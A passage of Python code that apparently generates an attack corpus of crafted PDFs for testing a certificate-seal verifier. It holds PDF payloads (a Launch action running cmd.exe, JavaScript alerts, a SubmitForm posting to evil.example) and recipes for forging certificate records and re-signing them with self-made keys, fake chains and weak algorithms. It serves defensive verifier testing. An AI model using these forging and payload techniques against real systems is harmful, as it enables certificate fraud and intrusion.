                    doc.root, OpenAction=b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
                )
            }
        ),
    )
    yield (
        "javascript",
        "uri-javascript-scheme",
        doc.update({doc.root: doc.body(doc.root, OpenAction=b"<< /S /URI /URI (javascript:alert\\(1\\)) >>")}),
    )
    yield (
        "javascript",
        "submit-form",
        doc.update(
            {
                doc.root: doc.body(
                    doc.root, OpenAction=b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"
                )
            }
        ),
    )
    x = next(nums)
    yield (
        "javascript",
        "xfa-with-script",
        doc.update(
            {
                x: stream(
                    b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
                ),
                doc.acroform: doc.body(doc.acroform, XFA=b"%d 0 R" % x),
            }
            if doc.acroform
            else {}
        ),
    )


def _scale_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    # 50,000 objects, standalone
    n = 50_000
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R /Many 3 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}
    objs[3] = b"[ " + b" ".join(b"%d 0 R" % i for i in range(4, n + 4)) + b" ]"
    objs.update({i: b"<< /I %d >>" % i for i in range(4, n + 4)})
    yield "objects", "standalone-50000-objects", minimal_pdf(objs)
    # 50,000 objects appended to a genuine certificate
    nums = list(itertools.islice(doc.numbers(), n + 1))
    objs = {i: b"<< /I %d >>" % i for i in nums[1:]}
    objs[nums[0]] = b"[ " + b" ".join(b"%d 0 R" % i for i in nums[1:]) + b" ]"
    objs[doc.root] = doc.body(doc.root, Many=b"%d 0 R" % nums[0])
    yield "objects", "genuine-plus-50000-objects", doc.update(objs)
    # 200,000 objects in object streams (small on the wire)
    stm = doc.size
    first = doc.size + 1
    count = 200_000
    header = b" ".join(b"%d %d" % (first + i, i * 5) for i in range(count)) + b" "
    data = header + b"null " * count
    compressed = {first + i: (stm, i) for i in range(count)}
    yield (
        "objects",
        "genuine-plus-200000-compressed-objects",
        doc.update(
            {
                stm: stream(
                    b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, len(header)), zlib.compress(data, 9)
                )
            },
            compressed=compressed,
        ),
    )
    # 3,000 pages, standalone and appended
    pages = 3_000
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: stream(b"", b"BT /F1 12 Tf 72 720 Td (page) Tj ET")}
    kids = [4 + i for i in range(pages)]
    objs[2] = b"<< /Type /Pages /Count %d /Kids [ " % pages + b" ".join(b"%d 0 R" % k for k in kids) + b" ] >>"
    for k in kids:
        objs[k] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    yield "pages", "standalone-3000-pages", minimal_pdf(objs)
    nums2 = list(itertools.islice(doc.numbers(), pages + 1))
    content = nums2[0]
    objs = {content: stream(b"", FAKE_PAGE)}
    for k in nums2[1:]:
        objs[k] = (
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /Helv "
            % (
                doc.pages_root,
                content,
            )
            + HELV
            + b" >> >> >>"
        )
    kids_old = doc.array(doc.pages_root, "/Kids")
    objs[doc.pages_root] = doc.body(
        doc.pages_root,
        Kids=b"[ " + b" ".join([*kids_old, *(b"%d 0 R" % k for k in nums2[1:])]) + b" ]",
        Count=b"%d" % (pages + 1),
    )
    yield "pages", "genuine-plus-3000-pages", doc.update(objs)
    yield "pages", "count-lies-2-billion", doc.update({doc.pages_root: doc.body(doc.pages_root, Count=b"2147483647")})


# --------------------------------------------------------------------------------------------
# crafted records and DSS entries


def _record_items(doc: Doc, other: Doc) -> Iterator[tuple[str, str, bytes]]:
    real = dict(doc.record)
    mb = "名" * (MiB // 3)
    crafted: dict[str, Any] = {
        "number-only": {"number": real["number"]},
        "empty-number-id-1": {"number": "", "id_number": "1"},
        "version-x": real | {"version": "x"},
        "issue-date-2026-13-45": real | {"issue_date": "2026-13-45"},
        "issue-date-feb-30": real | {"issue_date": "2026-02-30"},
        "issue-date-integer": real | {"issue_date": 20261120},
        "level-object": real | {"level": {"a": 1}},
        "level-6": real | {"level": 6},
        "level-0": real | {"level": 0},
        "level-string": real | {"level": "5"},
        "level-float": real | {"level": 2.5},
        "level-huge": real | {"level": 10**40},
        "version-zero": real | {"version": 0},
        "version-negative": real | {"version": -1},
        "version-huge": real | {"version": 10**100},
        "version-list": real | {"version": [1]},
        "name-1mb": real | {"name": mb},
        "id-number-1mb": real | {"id_number": "1" * MiB},
        "number-1mb": real | {"number": "S" * MiB},
        "number-integer": real | {"number": 123},
        "number-null": real | {"number": None},
        "id-number-integer": real | {"id_number": 330106199301036367},
        "institution-code-unknown": real | {"institution_code": "S999999999999"},
        "institution-code-list": real | {"institution_code": ["S000011084012"]},
        "kind-proof": real | {"kind": "proof"},
        "style-unknown": real | {"style": "evil"},
        "qr-url-javascript": real | {"qr_url": "javascript:alert(1)"},
        "number-fullwidth-digits": real
        | {"number": real["number"].translate({ord(c): 0xFF10 + int(c) for c in "0123456789"})},
        "number-with-nul": real | {"number": real["number"] + "\x00"},
        "name-html": real | {"name": "<script>alert(1)</script>"},
        "many-keys": real | {f"k{i}": i for i in range(20_000)},
        "other-certificate": dict(other.record),
        "other-number-own-id": real | {"number": other.record["number"]},
    }
    for name, rec in crafted.items():
        yield "record", name, with_record(doc, rec)
    for name, raw in {
        "json-array": b"[1, 2, 3]",
        "json-string": b'"certificate"',
        "json-null": b"null",
        "json-number": b"1e999",
        "not-utf8": b'{"number": "\xff\xfe"}',
        "nan": b'{"number": NaN, "id_number": Infinity}',
        "duplicate-keys": json.dumps(real, ensure_ascii=False).encode()[:-1] + b', "number": "S000000000000000000001"}',
        "empty": b"",
        "bom": b"\xef\xbb\xbf" + json.dumps(real, ensure_ascii=False).encode(),
        "utf16": json.dumps(real, ensure_ascii=False).encode("utf-16"),
    }.items():
        yield "record", name, with_record(doc, None, raw=raw)
    # a forged record by a full rewrite (pikepdf): what a careless forger does
    import pikepdf

    for name, rec in (
        ("full-rewrite-forged", real | {"name": "王伟", "level": 1}),
        ("full-rewrite-number-only", {"number": real["number"]}),
    ):
        with pikepdf.open(io.BytesIO(doc.data)) as pdf:
            spec = pdf.Root.Names.EmbeddedFiles.Names[1]
            spec.EF.F.write(
                zlib.compress(json.dumps(rec, ensure_ascii=False).encode()), filter=pikepdf.Name.FlateDecode
            )
            buf = io.BytesIO()
            pdf.save(buf)
            yield "record", name, buf.getvalue()


def _dss_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    n = doc.size + 895
    variants = {
        "dss-integer": b"5",
        "dss-array": b"[ 1 2 3 ]",
        "dss-string": b"(dss)",
        "certs-integer": b"<< /Certs 5 >>",
        "certs-of-integers": b"<< /Certs [ 1 2 ] >>",
        "certs-of-strings": b"<< /Certs [ (x) ] >>",
        "certs-of-dicts": b"<< /Certs [ << /A 1 >> ] >>",
        "ocsps-dict": b"<< /OCSPs << /A 1 >> >>",
        "crls-name": b"<< /CRLs /None >>",
        "vri-array": b"<< /VRI [ 1 ] >>",
        "vri-values-integers": b"<< /VRI << /ABCDEF 5 >> >>",
        "vri-entry-wrong-types": b"<< /VRI << /%s << /Cert 5 /OCSP (x) /CRL /Y /TU 7 >> >> >>" % (b"A" * 40),
        "garbage-der-streams": b"<< /Certs [ %d 0 R ] /OCSPs [ %d 0 R ] /CRLs [ %d 0 R ] >>" % (n + 1, n + 1, n + 1),
        "self-reference": b"<< /Certs %d 0 R /VRI %d 0 R >>" % (n, n),
        "missing-object": b"%d 0 R" % (n + 500),
    }
    for name, dss in variants.items():
        objs = {
            n: dss,
            n + 1: stream(b"", b"\x30\x82\xff\xff garbage"),
            doc.root: doc.body(doc.root, DSS=b"%d 0 R" % n),
        }
        if name == "dss-integer":
            objs[doc.root] = doc.body(doc.root, DSS=b"5")
        yield "dss", name, doc.update(objs)
    if doc.dss is not None:  # the existing DSS object itself rewritten with a wrong type
        yield "dss", "existing-dss-object-is-an-array", doc.update({doc.dss: b"[ /Certs /VRI ]"})


# --------------------------------------------------------------------------------------------
# signatures: self-made keys, certification, algorithms, legitimate LTV


@dataclass
class Keys:
    """Signers and certificates the signature attacks need."""

    pki: Any  # sign.pki.DemoPki
    label: str  # the seal certificate's label in the demo PKI (e.g. "S000011084012-institution")
    tsa_url: str | None
    cache: dict[str, Any] = field(default_factory=dict)

    def real(self) -> Any:
        from pyhanko.sign import signers

        if "real" not in self.cache:
            self.cache["real"] = signers.SimpleSigner.load_pkcs12(
                str(self.pki.p12(self.label)), passphrase=self.pki.password
            )
        return self.cache["real"]

    def _x509(self, name: str) -> Any:
        from cryptography import x509

        return x509.load_pem_x509_certificate(self.pki.cert_pem(name).read_bytes())

    def _key(self, name: str) -> Any:
        from cryptography.hazmat.primitives import serialization

        return serialization.load_pem_private_key((self.pki.root / "keys" / f"{name}.pem").read_bytes(), password=None)

    def made(self, kind: str) -> Any:
        """A signer for ``kind``: see the branches below."""
        if kind not in self.cache:
            self.cache[kind] = self._made(kind)
        return self.cache[kind]

    def _made(self, kind: str) -> Any:
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import ec, ed448, rsa

        real = self._x509(self.label)
        now = datetime.now(UTC)
        hash_alg: Any = hashes.SHA256()
        chain: list[Any] = []
        if kind == "self-signed-same-subject":
            key: Any = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            issuer_name, issuer_key = real.subject, key
        elif kind == "fake-chain-same-names":
            root_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            int_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            root, interm = self._x509("root"), self._x509("interm")
            fake_root = self._cert(
                root.subject, root.subject, root_key, root_key.public_key(), now, ca=True, serial=root.serial_number
            )
            fake_int = self._cert(
                interm.subject, root.subject, root_key, int_key.public_key(), now, ca=True, serial=interm.serial_number
            )
            chain = [fake_int, fake_root]
            issuer_name, issuer_key = interm.subject, int_key
        elif kind in ("real-ca-same-subject", "real-ca-ed448", "real-ca-rsa1024", "real-ca-p256"):
            key = {
                "real-ca-same-subject": lambda: rsa.generate_private_key(public_exponent=65537, key_size=2048),
                "real-ca-ed448": ed448.Ed448PrivateKey.generate,
                "real-ca-rsa1024": lambda: rsa.generate_private_key(public_exponent=65537, key_size=1024),
                "real-ca-p256": lambda: ec.generate_private_key(ec.SECP256R1()),
            }[kind]()
            interm = self._x509("interm")
            issuer_name, issuer_key = interm.subject, self._key("interm")
            chain = [interm, self._x509("root")]
        elif kind in ("tsa", "interm-ocsp", "interm"):  # a trusted certificate made for another purpose
            return self._signer_from(self._x509(kind), self._key(kind), [self._x509("interm"), self._x509("root")])
        else:
            raise ValueError(kind)
        if isinstance(issuer_key, ed448.Ed448PrivateKey):
            hash_alg = None
        cert = self._cert(
            real.subject,
            issuer_name,
            issuer_key,
            key.public_key(),
            now,
            serial=real.serial_number,
            hash_alg=hash_alg,
            like=real,
        )
        return self._signer_from(cert, key, chain)

    @staticmethod
    def _cert(
        subject: Any,
        issuer: Any,
        issuer_key: Any,
        public: Any,
        now: datetime,
        *,
        ca: bool = False,
        serial: int | None = None,
        hash_alg: Any = "sha256",
        like: Any = None,
    ) -> Any:
        from cryptography import x509
        from cryptography.hazmat.primitives import hashes

        b = (
            x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(issuer)
            .public_key(public)
            .serial_number(serial or x509.random_serial_number())
            .not_valid_before(now - timedelta(days=60))
            .not_valid_after(now + timedelta(days=3650))
        )
        if ca:
            b = b.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            b = b.add_extension(
                x509.KeyUsage(True, False, False, False, False, True, True, False, False), critical=True
            )
        elif like is not None:
            for ext in like.extensions:
                if ext.oid in (
                    x509.ExtensionOID.SUBJECT_KEY_IDENTIFIER,
                    x509.ExtensionOID.AUTHORITY_KEY_IDENTIFIER,
                    x509.ExtensionOID.AUTHORITY_INFORMATION_ACCESS,
                ):
                    continue
                b = b.add_extension(ext.value, ext.critical)
        b = b.add_extension(x509.SubjectKeyIdentifier.from_public_key(public), critical=False)
        from cryptography.hazmat.primitives.asymmetric import ed448, ed25519

        if isinstance(issuer_key, ed448.Ed448PrivateKey | ed25519.Ed25519PrivateKey):
            alg = None
        else:
            alg = (
                hashes.SHA256()
                if hash_alg == "sha256" or hash_alg is None or not hasattr(hash_alg, "name")
                else hash_alg
            )
        return b.sign(issuer_key, alg)

    @staticmethod
    def _signer_from(cert: Any, key: Any, chain: Sequence[Any]) -> Any:
        from asn1crypto import keys as akeys
        from asn1crypto import x509 as ax509
        from cryptography.hazmat.primitives import serialization
        from pyhanko.sign import signers
        from pyhanko_certvalidator.registry import SimpleCertificateStore

        der = lambda c: ax509.Certificate.load(c.public_bytes(serialization.Encoding.DER))  # noqa: E731
        pk = akeys.PrivateKeyInfo.load(
            key.private_bytes(
                serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        )
        return signers.SimpleSigner(
            signing_cert=der(cert),
            signing_key=pk,
            cert_registry=SimpleCertificateStore.from_certs([der(c) for c in chain]),
        )

    def validation_context(self) -> Any:
        """Fetching OCSP/CRL from the demo PKI; any algorithm (the attacker signs with weak ones)."""
        from pyhanko.keys import load_cert_from_pemder
        from pyhanko_certvalidator import ValidationContext
        from pyhanko_certvalidator.policy_decl import AcceptAllAlgorithms

        return ValidationContext(
            trust_roots=[load_cert_from_pemder(str(self.pki.root_cert))],
            allow_fetching=True,
            algorithm_usage_policy=AcceptAllAlgorithms(),
        )


def sign(
    data: bytes,
    signer: Any,
    *,
    field_name: str = "Seal9",
    keys: Keys | None = None,
    ltv: bool = False,
    timestamp: bool = True,
    certify: Any = None,
    md: str | None = "sha256",
    box: tuple[int, int, int, int] | None = None,
    lock: Any = None,
) -> bytes:
    """pyHanko signs ``data`` in an incremental update (B-B, B-T with ``keys.tsa_url``, B-LT with ``ltv``)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers, timestamps
    from pyhanko.stamp import NoOpStampStyle

    tsa = keys.tsa_url if keys is not None and timestamp else None
    meta = signers.PdfSignatureMetadata(
        field_name=field_name,
        md_algorithm=md,
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify is not None,
        docmdp_permissions=certify if certify is not None else fields.MDPPerm.FILL_FORMS,
        embed_validation_info=ltv,
        validation_context=keys.validation_context() if ltv and keys is not None else None,
    )
    spec = fields.SigFieldSpec(sig_field_name=field_name, box=box, field_mdp_spec=lock) if (box or lock) else None
    ps = signers.PdfSigner(
        meta,
        signer=signer,
        timestamper=timestamps.HTTPTimeStamper(tsa) if tsa else None,
        stamp_style=NoOpStampStyle(),
        new_field_spec=spec,
    )
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    # pyHanko refuses to sign what a certification forbids; an attacker's tool does not
    with (
        mock.patch.object(signers.PdfSigner, "_enforce_certification_constraints", lambda *_: None),
        mock.patch.object(signers.Signer, "_check_digest_algorithm", lambda *_: None),
    ):
        return ps.sign_pdf(w, bytes_reserved=16384, output=io.BytesIO()).getvalue()  # type: ignore[no-any-return]


def _resign_items(doc: Doc, keys: Keys) -> Iterator[tuple[str, str, bytes]]:
    rev0 = doc.first_revision()
    box = _seal_box(doc)
    yield (
        "resign",
        "self-signed-same-subject",
        sign(rev0, keys.made("self-signed-same-subject"), box=box, field_name="Seal1-institution"),
    )
    yield (
        "resign",
        "fake-chain-same-names-timestamped",
        sign(
            rev0,
            keys.made("fake-chain-same-names"),
            keys=keys,
            box=box,
            field_name="Seal1-institution",
        ),
    )
    yield (
        "resign",
        "real-ca-same-subject-blt",
        sign(rev0, keys.made("real-ca-same-subject"), keys=keys, ltv=True, box=box),
    )
    # the forged record written into the unsigned first revision, then sealed with the self-made key
    forged = with_record(doc, dict(doc.record) | {"name": "王伟", "level": 1})
    unsigned_forged = rebase(doc.first_revision(), forged[len(doc.data) :])
    yield (
        "resign",
        "forged-record-self-signed",
        sign(unsigned_forged, keys.made("self-signed-same-subject"), field_name="Seal1-institution"),
    )
    yield "resign", "second-seal-self-signed-same-subject", sign(doc.data, keys.made("self-signed-same-subject"))
    yield (
        "resign",
        "second-seal-real-ca-same-subject",
        sign(doc.data, keys.made("real-ca-same-subject"), keys=keys, ltv=True),
    )
    for kind in ("tsa", "interm-ocsp", "interm"):
        yield "resign", f"signed-by-{kind}-certificate", sign(rev0, keys.made(kind), keys=keys, box=box)


def rebase(base: bytes, tail: bytes) -> bytes:
    """The objects of an update section ``tail`` (from another file) appended to ``base``."""
    objs: dict[int, bytes] = {}
    for m in re.finditer(rb"(?ms)^(\d+) 0 obj\s*(.*?)\s*endobj\b", tail):
        objs[int(m.group(1))] = m.group(2)
    root = int(re.findall(rb"/Root (\d+) 0 R", base + tail)[-1])
    size = max(int(x) for x in re.findall(rb"/Size (\d+)", base + tail))
    ids = re.findall(rb"/ID\s*(\[\s*<[0-9A-Fa-f]*>\s*<[0-9A-Fa-f]*>\s*\])", base)
    return append_update(base, objs, root=root, size=size, id_raw=ids[-1] if ids else None)


def _certified_items(doc: Doc, keys: Keys) -> Iterator[tuple[str, str, bytes, bool]]:
    from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm

    # the first revision plus an empty text field, certified by the institution's own key at B-LT
    base_doc = _unsigned(doc)
    f = base_doc.size
    x, y, w, h = doc.name_box
    note = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (note) /V () /DA (/Helv 12 Tf 0 g) /Rect "
        + _rect((x, y - 60, w, h))
        + b" /F 4 /P %d 0 R >>" % base_doc.page
    )
    objs = {f: note, base_doc.page: base_doc.page_with(annots=[f])}
    objs.update(base_doc.fields_with([f], DR=b"<< /Font << /Helv " + HELV + b" >> >>"))
    with_field = base_doc.update(objs)
    base_doc.close()
    for perm in (MDPPerm.NO_CHANGES, MDPPerm.FILL_FORMS, MDPPerm.ANNOTATE):
        p = f"P{perm.value}"
        certified = sign(with_field, keys.real(), keys=keys, ltv=True, certify=perm, field_name="Certification")
        cdoc = Doc(certified, f"{doc.label}-{p}")
        try:
            yield "certified", f"{p}-no-change", certified, True
            yield from ((cls, f"{p}-{n}", data, ok) for cls, n, data, ok in _after_certification(cdoc, keys))
        finally:
            cdoc.close()
    # FieldMDP: an approval seal locks the note; the note changed afterwards
    for action in (FieldMDPAction.INCLUDE, FieldMDPAction.ALL):
        lock = FieldMDPSpec(action, fields=["note"] if action is FieldMDPAction.INCLUDE else None)
        locked = sign(
            with_field, keys.real(), keys=keys, ltv=True, lock=lock, field_name="Locking", box=(20, 20, 60, 60)
        )
        ldoc = Doc(locked, doc.label)
        try:
            yield "certified", f"fieldmdp-{action.name.lower()}-locked-field-filled", _fill_note(ldoc), False
        finally:
            ldoc.close()


def _unsigned(doc: Doc) -> Doc:
    return Doc(doc.first_revision(), doc.label)


def _seal_box(doc: Doc) -> tuple[int, int, int, int]:
    """The first seal widget's rectangle (where a re-signature puts its own)."""
    x0, y0, x1, y1 = (int(float(v)) for v in doc.obj(doc.sigs[0].field).Rect)
    return x0, y0, x1, y1


def _fill_note(doc: Doc, value: bytes = b"WANG WEI  LEVEL 1") -> bytes:
    import pikepdf

    acro = doc.pdf.Root.AcroForm
    note = next(fl for fl in acro.Fields if fl.get("/T") == "note")
    num = note.objgen[0]
    rect = [float(v) for v in note.Rect]
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    ap = doc.size
    assert isinstance(note, pikepdf.Dictionary)
    return doc.update(
        {
            ap: form_xobject(w, h, paint(w, h, "replace", value)),
            num: doc.body(num, V=b"(" + value + b")", AP=b"<< /N %d 0 R >>" % ap),
        }
    )


def _after_certification(cdoc: Doc, keys: Keys) -> Iterator[tuple[str, str, bytes, bool]]:
    box = cdoc.name_box
    w, h = _wh(box)
    ap = cdoc.size
    yield "certified", "field-filled", _fill_note(cdoc), False
    yield (
        "certified",
        "annotation-added",
        cdoc.with_annotation(
            _annot(b"/FreeText", box, ap, b"/DA (/Helv 12 Tf 0 g) /Contents (WANG WEI)"),
            {ap: form_xobject(w, h, paint(w, h, "replace"))},
        ),
        False,
    )
    yield (
        "certified",
        "unsigned-sig-widget-added",
        cdoc.with_annotation(
            _annot(b"/Widget", box, ap, b"/FT /Sig /T (Seal9)"),
            {ap: form_xobject(w, h, paint(w, h, "replace"))},
            is_field=True,
        ),
        False,
    )
    yield "certified", "second-seal-filed-key", sign(cdoc.data, keys.real(), keys=keys, ltv=True), False
    yield "certified", "second-seal-self-made", sign(cdoc.data, keys.made("self-signed-same-subject")), False
    c = cdoc.size + 1
    yield "certified", "page-content-replaced", cdoc.update({cdoc.contents: stream(b"", FAKE_PAGE), c: b"null"}), False
    nums = cdoc.numbers()
    p, objs = _fake_page(cdoc, nums, cdoc.pages_root)
    kids = cdoc.array(cdoc.pages_root, "/Kids")
    objs[cdoc.pages_root] = cdoc.body(
        cdoc.pages_root, Kids=b"[ " + b" ".join([*kids, b"%d 0 R" % p]) + b" ]", Count=b"2"
    )
    yield "certified", "page-added", cdoc.update(objs), False
    forged = dict(cdoc.record) | {"name": "王伟"}
    yield "certified", "embedded-record-forged", with_record(cdoc, forged), False


def _algorithm_items(doc: Doc, keys: Keys) -> Iterator[tuple[str, str, bytes]]:
    rev0 = doc.first_revision()
    box = _seal_box(doc)
    for md in ("md5", "sha1"):
        yield (
            "algorithm",
            f"filed-key-rsa-{md}",
            _sign_any(rev0, keys.real(), keys, md=md, box=box, field_name="Seal1-institution"),
        )
    for kind, md in (
        ("real-ca-ed448", "sha256"),
        ("real-ca-ed448", "sha512"),
        ("real-ca-rsa1024", "sha256"),
        ("real-ca-p256", "sha1"),
    ):
        yield "algorithm", f"{kind}-{md}", _sign_any(rev0, keys.made(kind), keys, md=md, box=box)


def _sign_any(data: bytes, signer: Any, keys: Keys, **kw: Any) -> bytes:
    """The most complete signature pyHanko makes: B-LT, else without the timestamp, else B-B."""
    for ltv, timestamp in ((True, True), (True, False), (False, False)):
        try:
            return sign(data, signer, keys=keys, ltv=ltv, timestamp=timestamp, **kw)
        except Exception:  # the TSA or the revocation collection refuses the algorithm
            continue
    return sign(data, signer, **kw)


def _ltv_controls(doc: Doc, keys: Keys) -> Iterator[tuple[str, str, bytes]]:
    """Legitimate long-term-validation data only: a document timestamp, fresh DSS data."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign import signers, timestamps
    from pyhanko.sign.validation import add_validation_info

    if not keys.tsa_url:
        return
    vc = keys.validation_context()
    w = IncrementalPdfFileWriter(io.BytesIO(doc.data), strict=False)
    stamper = signers.PdfTimeStamper(timestamps.HTTPTimeStamper(keys.tsa_url))
    out = stamper.timestamp_pdf(w, "sha256", validation_context=vc, output=io.BytesIO())
    yield "control-ltv", f"{doc.label}-document-timestamp", out.getvalue()
    reader = PdfFileReader(io.BytesIO(doc.data), strict=False)
    out = add_validation_info(
        reader.embedded_signatures[0], keys.validation_context(), force_write=True, output=io.BytesIO()
    )
    yield "control-ltv", f"{doc.label}-dss-refreshed", out.getvalue()


# --------------------------------------------------------------------------------------------
# the corpus


def corpus(genuine: Sequence[bytes], pki: Any, *, tsa: bool = True) -> Iterator[Attack]:
    """Every attack, in a fixed order: controls first, the costly bombs and sizes last.

    ``genuine``: sealed certificates as delivered, of different styles; the first three should
    be (一), (二) and Guangdong, the fourth another (一) of the same institution as the first;
    any further ones are controls only (and sources of bit flips and splices).
    ``pki``: the demo PKI (:class:`sign.pki.DemoPki`), its TSA/OCSP/CRL served while iterating
    when ``tsa`` is true (without it the re-signed, certified, algorithm and LTV items are left out).
    """
    rng = random.Random(SEED)
    docs = [Doc(data, label) for data, label in zip(genuine, _labels(genuine), strict=True)]
    try:
        one, two, gd = docs[0], docs[1], docs[2]
        sibling = docs[3] if len(docs) > 3 else docs[0]
        seal_label = _seal_label(one)
        keys = Keys(pki, seal_label, pki.tsa_url if tsa else None)
        for doc in docs:
            yield Attack("control", doc.label, doc.data, may_be_valid=True)
        if tsa:
            for cls, name, data in _ltv_controls(one, keys):
                yield Attack(cls, name, data, may_be_valid=True)
        for cls, name, data, ok in _incremental_items(one, sibling):
            yield Attack(cls, f"{one.label}-{name}", data, may_be_valid=ok)
        for doc in (two, gd):
            for cls, name, data, ok in _incremental_items(doc, one):
                if not ok:
                    yield Attack(cls, f"{doc.label}-{name}", data)
        for doc in (one, two, gd):
            for cls, name, data in _shadow_items(doc):
                yield Attack(cls, f"{doc.label}-{name}", data)
        for doc in (one, two):
            for cls, name, data in _usf_items(doc):
                yield Attack(cls, f"{doc.label}-{name}", data)
        for doc in (one, gd):
            for cls, name, data in _wrapping_items(doc):
                yield Attack(cls, f"{doc.label}-{name}", data)
        for cls, name, data in _copied_items(one, sibling, gd):
            yield Attack(cls, name, data)
        for cls, name, data in _record_items(one, sibling):
            yield Attack(cls, name, data)
        for cls, name, data in _dss_items(one):
            yield Attack(cls, name, data)
        for cls, name, data in _js_items(one):
            yield Attack(cls, name, data)
        for cls, name, data in _encryption_items(one):
            yield Attack(cls, name, data)
        for cls, name, data in _xref_items(one):
            yield Attack(cls, name, data)
        for cls, name, data in _structural_items(docs, rng):
            yield Attack(cls, name, data)
        if tsa:
            for cls, name, data in _resign_items(one, keys):
                yield Attack(cls, name, data)
            for cls, name, data, ok in _certified_items(one, keys):
                yield Attack(cls, f"{one.label}-{name}", data, may_be_valid=ok)
            for cls, name, data in _algorithm_items(one, keys):
                yield Attack(cls, name, data)
            # style (二): a third seal by a filed key is not the registered second seal
            keys2 = Keys(pki, _seal_label(two, last=True), pki.tsa_url)
            yield Attack(
                "certified", f"{two.label}-third-seal-filed-key", sign(two.data, keys2.real(), keys=keys2, ltv=True)
            )
        for cls, name, data in _nesting_items(one):
            yield Attack(cls, name, data)
        for cls, name, data in _scale_items(one):
            yield Attack(cls, name, data)
        gib = flate_zeros(1024)
        nested = zlib.compress(gib, 9)
        for cls, name, data in _bomb_items(one, gib, nested):
            yield Attack(cls, name, data)
    finally:
        for d in docs:
            d.close()


def _labels(genuine: Sequence[bytes]) -> list[str]:
    """``style1``, ``style2``, ``guangdong``, ``style1-2``…: each file's style from its record."""
    import pikepdf

    seen: dict[str, int] = {}
    out = []
    for data in genuine:
        with pikepdf.open(io.BytesIO(data)) as pdf:
            spec = pdf.attachments.get("certificate.json")
            style = str(json.loads(spec.get_file().read_bytes()).get("style") or "pdf") if spec else "pdf"
        seen[style] = seen.get(style, 0) + 1
        out.append(style if seen[style] == 1 else f"{style}-{seen[style]}")
    return out


def _seal_label(doc: Doc, *, last: bool = False) -> str:
    """The demo PKI label of the key that made ``doc``'s (first or last) seal."""
    code = str(doc.record.get("institution_code"))
    names = [str(doc.obj(s.field).T) for s in doc.sigs]
    kinds = [n.split("-", 1)[1] for n in names if n.startswith("Seal")]  # B-LTA adds a document timestamp
    return f"{code}-{kinds[-1] if last else kinds[0]}"


def summary(results: Iterable[tuple[Attack, int, str, float]]) -> list[tuple[str, int, int, int, int, float, str]]:
    """Per class: (class, count, valid, valid but must not be, 5xx, slowest seconds, slowest name)."""
    table: dict[str, list[Any]] = {}
    for attack, status, bottom, took in results:
        row = table.setdefault(attack.cls, [attack.cls, 0, 0, 0, 0, 0.0, ""])
        row[1] += 1
        row[2] += bottom == "valid"
        row[3] += bottom == "valid" and not attack.may_be_valid
        row[4] += status >= 500
        if took > row[5]:
            row[5], row[6] = took, attack.name
    return [tuple(r) for r in table.values()]  # type: ignore[misc]


def format_table(rows: Sequence[tuple[str, int, int, int, int, float, str]]) -> str:
    head = f"{'class':<24} {'count':>5} {'valid':>5} {'wrong':>5} {'5xx':>4} {'slowest s':>9}  slowest case"
    lines = [head, "-" * 100]
    for cls, n, valid, wrong, five, slow, name in rows:
        lines.append(f"{cls:<24} {n:>5} {valid:>5} {wrong:>5} {five:>4} {slow:>9.2f}  {name}")
    total = [sum(r[i] for r in rows) for i in (1, 2, 3, 4)]  # type: ignore[misc]
    lines += ["-" * 100, f"{'total':<24} {total[0]:>5} {total[1]:>5} {total[2]:>5} {total[3]:>4}"]
    lines.append("valid: judged valid; wrong: judged valid although only genuine or LTV-only files may be")
    return "\n".join(lines)
